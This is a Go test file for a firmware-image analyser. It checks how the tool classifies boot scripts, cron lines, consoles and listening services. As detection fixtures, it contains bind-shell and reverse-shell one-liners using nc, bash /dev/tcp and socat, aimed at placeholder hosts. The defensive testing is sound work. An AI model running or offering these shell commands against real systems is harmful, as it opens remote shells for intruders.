package facts

import (
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
)

// startsScript is a boot of one script.
func startsScript(script string, more map[string]string) map[string]string {
	files := map[string]string{
		"etc/inittab": toRcS, "etc/init.d/rcS": "#!/bin/sh\n" + script + "\n",
		"usr/sbin/telnetd": "-> ../../bin/busybox", "usr/bin/nc": "-> ../../bin/busybox", "sbin/getty": "-> ../bin/busybox", "usr/bin/socat": "", "usr/bin/wget": "-> ../../bin/busybox",
	}
	for name, content := range more {
		files[name] = content
	}
	return files
}

func TestBootUnjudged(t *testing.T) {
	for _, tc := range []struct {
		script   string
		more     map[string]string
		started  string
		unjudged int
	}{
		{script: "D=$(cat /etc/d); $D -p 23 &", more: map[string]string{"etc/d": "telnetd\n"}, started: "telnetd"},
		{script: "D=$(</etc/d); $D &", more: map[string]string{"etc/d": "telnetd\n"}, started: "telnetd"},
		{script: "cp /data/d /etc/d; D=$(cat /etc/d); $D &", more: map[string]string{"etc/d": "telnetd\n"}, unjudged: 1},
		{script: "eval \"telnetd -p 1 &\"", started: "telnetd"},
		{script: "eval \"$(fw_printenv -n job)\"", unjudged: 1},
		{script: "eval \"A=$(fw_printenv -n job)\"\neval $(jshn -R x)"},
		{script: "echo telnetd | sh", started: "telnetd"},
		{script: "cat /etc/d | sh", more: map[string]string{"etc/d": "#!/bin/sh\ntelnetd\n"}, started: "telnetd"},
		{script: "sh </etc/d", more: map[string]string{"etc/d": "#!/bin/sh\ntelnetd\n"}, started: "telnetd"},
		{script: "sh <<E\ntelnetd\nE", started: "telnetd"},
		{script: "dd if=/dev/mtd4 | sh", unjudged: 1},
		{script: "sh \"$(nvram get f)\"", unjudged: 1},
		{script: "mount /dev/mmcblk0p1 /mnt/sd\n[ -x /mnt/sd/run.sh ] && /mnt/sd/run.sh", unjudged: 1},
		{script: "mount -t tmpfs none /tmp\n[ -x /tmp/run.sh ] && /tmp/run.sh"},
		{script: "[ -x /opt/run.sh ] && /opt/run.sh\n/usr/sbin/none &\nstart-stop-daemon -S -x /usr/sbin/none"},
		{script: "start-stop-daemon -S -x $(nvram get d)", unjudged: 1},
		{script: "npm install; java -version; pm2 list"},
		{script: "nohup busybox httpd &", more: map[string]string{"bin/busybox": "\x7fELF\x00[\x00[[\x00ash\x00cat\x00cp\x00dd\x00httpd\x00ls\x00mv\x00sh\x00"}, started: "httpd"},
		{script: "nohup busybox ftpd &", more: map[string]string{"bin/busybox": "\x7fELF\x00[\x00[[\x00ash\x00cat\x00cp\x00dd\x00httpd\x00ls\x00mv\x00sh\x00"}},
	} {
		t.Run(tc.script, func(t *testing.T) {
			g := bootOf(t, startsScript(tc.script, tc.more))
			if got := started(g); got != tc.started || len(g.Inits[0].Unjudged) != tc.unjudged {
				t.Errorf("started %q, want %q; %d commands could not be judged, want %d: %+v", got, tc.started, len(g.Inits[0].Unjudged), tc.unjudged, g.Inits[0].Unjudged)
			}
		})
	}
}

// What the boot runs from a card, a stick or another partition is not in the image, and
// need not be mounted by the script that runs it.
func TestBootRunsFromMedia(t *testing.T) {
	for script, want := range map[string]string{
		"[ -f /mnt/sd/run.sh ] && sh /mnt/sd/run.sh":                     "it runs mnt/sd/run.sh, which is not in the image: whoever fills mnt/sd says what it does",
		"for f in /mnt/sd/*.sh; do sh \"$f\"; done":                      "it runs mnt/sd/*.sh, which is not in the image: whoever fills mnt/sd says what it does",
		"for f in /media/*/auto; do [ -f \"$f\" ] && \"$f\" start; done": "it runs media/*/auto, which is not in the image: whoever fills media/* says what it does",
		"if [ -d /mnt/sd/autorun ]; then run-parts /mnt/sd/autorun; fi":  "it runs what stands in mnt/sd/autorun, which whoever fills that folder decides",
		"run-parts --regex . /media":                                     "it runs what stands in media, which whoever fills that folder decides",
		". /mnt/mtd/x":                                                   "it takes in mnt/mtd/x, which is not in the image: whoever fills mnt/mtd says what it does",
		"[ -r /data/start.sh ] && . /data/start.sh":                      "it takes in data/start.sh, which is not in the image: whoever fills data says what it does",
		"sh </mnt/sd/x":                                     "it runs mnt/sd/x, which is not in the image: whoever fills mnt/sd says what it does",
		"cat /mnt/sd/x | sh":                                "it runs mnt/sd/x, which is not in the image: whoever fills mnt/sd says what it does",
		"cp /mnt/sd/x /tmp/x; sh /tmp/x":                    "it runs tmp/x, which comes from elsewhere",
		"/data/app/main &":                                  "it runs data/app/main, which is not in the image: whoever fills data/app says what it does",
		"python3 /data/main.py &":                           "it runs data/main.py, which is not in the image: whoever fills data says what it does",
		"find /mnt/sd -name '*.sh' -exec sh {} \\;":         "it runs what stands in mnt/sd, which whoever fills that folder decides",
		"/mnt/own/b.sh":                                     "",
		". /data/wifi":                                      "",
		"[ -f /mnt/mtd/debug ] && echo 1":                   "",
		". /data/wifi.conf":                                 "",
		"mkdir -p /mnt/sd; ls /mnt/sd; cat /mnt/sd/version": "",
		"[ -x /opt/run.sh ] && /opt/run.sh":                 "",
		"sh /data/own.sh":                                   "",
		"find /mnt/sd -name '*.tmp' -exec rm {} \\;":        "",
	} {
		t.Run(script, func(t *testing.T) {
			g := bootOf(t, startsScript(script, map[string]string{"usr/bin/python3": "", "data/own.sh": "#!/bin/sh\necho 1\n", "mnt/own/a.sh": "", "media/.keep": ""}))
			var got []string
			for _, u := range g.Inits[0].Unjudged {
				got = append(got, u.Reason)
			}
			if strings.Join(got, "; ") != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

func TestBootUnjudgedIsBounded(t *testing.T) {
	g := bootOf(t, startsScript(strings.Repeat("$(a) &\n", 5*maxUnjudged), nil))
	if n := len(g.Inits[0].Unjudged); n != maxUnjudged {
		t.Errorf("%d commands, want %d", n, maxUnjudged)
	}
}

func TestBootSockets(t *testing.T) {
	for script, want := range map[string]string{
		"nc -l -p 4444 -e /bin/sh &":                          "nc:4444/tcp shell",
		"nc -lvnp 4444 -e /bin/sh &":                          "nc:4444/tcp shell",
		"nc -l 0.0.0.0 4444 >/tmp/x":                          "nc:4444/tcp",
		"nc -lu -p 69 -e tftpd &":                             "nc:69/udp",
		"while :; do nc -l -p 4444 -e /bin/sh; done &":        "nc:4444/tcp shell",
		"nc 192.0.2.1 80 </etc/x":                             "",
		"nc 192.0.2.1 80 -e /bin/sh":                          "away",
		"sh -i </tmp/f 2>&1 | nc 192.0.2.1 80 >/tmp/f":        "away",
		"bash -i >& /dev/tcp/192.0.2.1/80 0>&1":               "away",
		"socat TCP-LISTEN:5000,fork EXEC:'/bin/sh -li',pty &": "socat:5000/tcp shell",
		"socat TCP4-LISTEN:5000,fork EXEC:/usr/bin/status &":  "socat:5000/tcp",
		"socat UNIX-LISTEN:/run/x EXEC:/bin/sh &":             "",
		"socat OPENSSL:x.example:443 EXEC:/bin/sh":            "away",
		"echo nc -l -p 4444 -e /bin/sh":                       "",
		"tcpsvd 0 2323 /bin/sh -i &":                          "sh:2323/tcp shell",
	} {
		t.Run(script, func(t *testing.T) {
			g := bootOf(t, startsScript(script, nil))
			got := ""
			for _, s := range g.Services {
				got = fmt.Sprintf("%s:%d/%s", s.Name, s.Listens[0].Port, s.Listens[0].Protocol)
				if s.Shell {
					got += " shell"
				}
			}
			if len(g.Outward) > 0 {
				got += "away"
			}
			if got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

func TestBootScriptConsoles(t *testing.T) {
	for script, want := range map[string]string{
		"/bin/sh </dev/ttyS0 >/dev/ttyS0 &":          "ttyS0",
		"exec </dev/ttyS0 >/dev/ttyS0\nsh":           "ttyS0",
		"(sh -l) </dev/ttyS1":                        "ttyS1",
		"sh -c 'exec sh </dev/ttyS0'":                "ttyS0",
		"setsid cttyhack sh </dev/ttyS0":             "ttyS0",
		"setsid cttyhack /bin/sh":                    "console",
		"openvt -c 1 /bin/sh":                        "tty1",
		"setsid cttyhack /bin/sh -c true":            "",
		"exec /bin/sh":                               "console", // init opens it for its scripts
		"su -":                                       "console",
		"su - root -c /bin/true":                     "",
		"sh &":                                       "",
		"(sleep 1; sh) &":                            "",
		"[ \"$(x)\" ] && sh":                         "",
		"(sh) </dev/ttyS0 &":                         "ttyS0",
		"getty -n -l /bin/sh 9600 ttyS2 &":           "ttyS2",
		"[ \"$(x)\" ] && sh </dev/ttyS0":             "ttyS0?",
		"getty 9600 ttyS2 &":                         "",
		"sh /etc/none </dev/ttyS0":                   "",
		"sh >/dev/ttyS0":                             "console",
		"read x </dev/ttyS0":                         "",
		"while read x; do echo $x; done </dev/ttyS0": "",
		"echo true | sh >/dev/ttyS0":                 "",
		"{ echo true | sh; } </dev/ttyS0":            "",
	} {
		t.Run(script, func(t *testing.T) {
			got := ""
			for _, k := range bootOf(t, startsScript(script, nil)).Consoles {
				if k.Device == "" {
					k.Device = "console"
				}
				if k.Shell == Yes {
					got += k.Device
				}
				if k.Shell == Yes && k.Uncertain {
					got += "?"
				}
			}
			if got != want {
				t.Errorf("a shell on %q, want %q", got, want)
			}
		})
	}
}

func TestBootInitIsAShell(t *testing.T) {
	for name, tc := range map[string]struct {
		files map[string]string
		want  int
	}{
		"a script that becomes one":  {map[string]string{"sbin/init": "#!/bin/sh\nmount -t proc proc /proc\nexec /bin/sh\n"}, 1},
		"a link":                     {map[string]string{"sbin/init": "-> ../bin/sh", "bin/sh": "-> busybox"}, 1},
		"when a mount fails":         {map[string]string{"init": "#!/bin/sh\nmount $(nvram get x) /mnt || exec sh\nexec /sbin/init\n"}, 0},
		"a script that runs another": {map[string]string{"sbin/init": "#!/bin/sh\nexec /bin/sh /etc/x\n"}, 0},
		"busybox":                    {map[string]string{"sbin/init": "-> ../bin/busybox", "etc/inittab": toRcS}, 0},
	} {
		n := 0
		for _, k := range bootOf(t, tc.files).Consoles {
			if k.Shell == Yes && !k.Uncertain {
				n++
			}
		}
		if n != tc.want {
			t.Errorf("%s: %d consoles, want %d", name, n, tc.want)
		}
	}
}

func TestCronJob(t *testing.T) {
	for line, want := range map[string]string{
		"*/5 * * * * telnetd -p 1":    "telnetd -p 1|",
		"@reboot\ttelnetd":            "telnetd|",
		"0 3 1-7 * 0 x \\% y % input": "x % y |",
		"# * * * * * telnetd":         "",
		"PATH=/bin":                   "",
		"* * * *":                     "",
		"":                            "",
	} {
		command, user, ok := cronJob(line, false)
		if got := command + "|" + user; ok && got != want || ok != (want != "") {
			t.Errorf("%q: %q %t, want %q", line, got, ok, want)
		}
	}
	if command, user, ok := cronJob("@daily www  run-parts /etc/daily", true); command != "run-parts /etc/daily" || user != "www" || !ok {
		t.Errorf("system table: %q %q", command, user)
	}
}

func TestWaits(t *testing.T) {
	listens := string(elfImage(32, binary.LittleEndian, []string{"libc.so.0"}, 0))
	for _, tc := range []struct{ script, want string }{
		{"/opt/app &", "its program can wait for connections"},
		{"/opt/app", "its program can wait for connections"}, // it may put itself into the background
		{"/opt/app -d -c /etc/app.conf", "its program can wait for connections"},
		{"exec /opt/app", "its program can wait for connections"},
		{"/usr/sbin/tool", ""},
		{"/usr/sbin/tool -p 8080", ""}, // nothing says that it stays
		{"/opt/app --version", ""},
		{"/usr/sbin/netifd", ""},
		{"/usr/bin/rsync --daemon", ""}, // a daemon that is known
		{"/usr/bin/rsync -a /etc/x /tmp/x", ""},
		{"lua /opt/api.lua", "its script can wait for connections"},
		{"lua /opt/timer.lua", ""},
		{"lua -e 's.listen(1)'", "its script can wait for connections"},
		{"/opt/api.py", "its script can wait for connections"},
		{"/opt/once.py", ""},
		{"/usr/sbin/netifd &", ""}, // a helper
		{"/usr/sbin/tool -p 8080 &", "its arguments name a port"},
		{"/usr/sbin/tool -h mqtt.vendor.example -p 1883 &", ""},
		{"/usr/sbin/tool --listen /run/tool.sock &", ""},
		{"/usr/sbin/tool --bind 127.0.0.1 &", ""},
		{"lua /opt/api.lua &", "its script can wait for connections"},
		{"lua /opt/timer.lua &", ""},
		{"lua $(x) &", "the program that it runs could not be read"},
	} {
		g := bootOf(t, startsScript(tc.script, map[string]string{
			"opt/app": listens, "usr/sbin/netifd": listens, "usr/sbin/tool": "", "usr/bin/lua": "", "usr/bin/rsync": listens,
			"opt/api.py": "#!/usr/bin/python3\nHTTPServer(('', 80), H).serve_forever()\n", "opt/once.py": "#!/usr/bin/python3\nprint(1)\n", "opt/api.lua": "s:bind(0)\nserver.listen(1)\n", "opt/timer.lua": "x = 1\n",
		}))
		got := ""
		for _, s := range g.Services {
			got += s.Waits
		}
		if got != tc.want {
			t.Errorf("%s: %q, want %q", tc.script, got, tc.want)
		}
	}
}

func TestListeningArgs(t *testing.T) {
	for args, want := range map[string]string{
		"--listen 0.0.0.0:9999":         ":9999 ",
		"--listen=9999":                 ":9999 ",
		"--http-listen-addr 10.0.0.1:1": "10.0.0.1:1 ",
		"serve :8080":                   ":8080 ",
		"tcp://0.0.0.0:5000":            ":5000 ",
		"--bind 127.0.0.1:5":            "127.0.0.1:5 ",
		"--port 80":                     "may",
		"--server x.example --port 80":  "",
		"--url http://x.example -p 80":  "",
		"--listen":                      "may",
		"-p 80 /etc/x.conf":             "may",
		"--pid 80 file:80":              "",
	} {
		listens, may := listeningArgs(strings.Fields(args))
		got := ""
		for _, l := range listens {
			got += fmt.Sprintf("%s:%d ", l.Address, l.Port)
		}
		if may {
			got += "may"
		}
		if got != want {
			t.Errorf("%s: %q, want %q", args, got, want)
		}
	}
}
